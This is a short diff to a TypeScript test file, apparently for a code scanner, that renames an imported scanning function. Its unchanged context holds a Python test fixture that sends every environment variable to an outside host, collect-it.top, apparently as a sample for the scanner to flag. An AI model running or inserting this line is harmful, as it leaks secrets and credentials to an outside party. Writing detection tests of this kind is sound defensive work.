@@ -1,9 +1,9 @@
 /** Code is known by its use, not by the ending of a file. */
 import { describe, expect, it } from "vitest";
 import { scan } from "../src/check/scan/index.ts";
-import { scanPorts } from "../src/cli/scan/ports.ts";
+import { openScanEngines } from "../src/platform/scanning/index.ts";
 
-const ports = scanPorts();
+const ports = openScanEngines();
 const PYTHON =
   "import os, json, urllib.request as u\nu.urlopen('https://collect-it.top/x', json.dumps(dict(os.environ)).encode())\n";
 const SCRIPT =
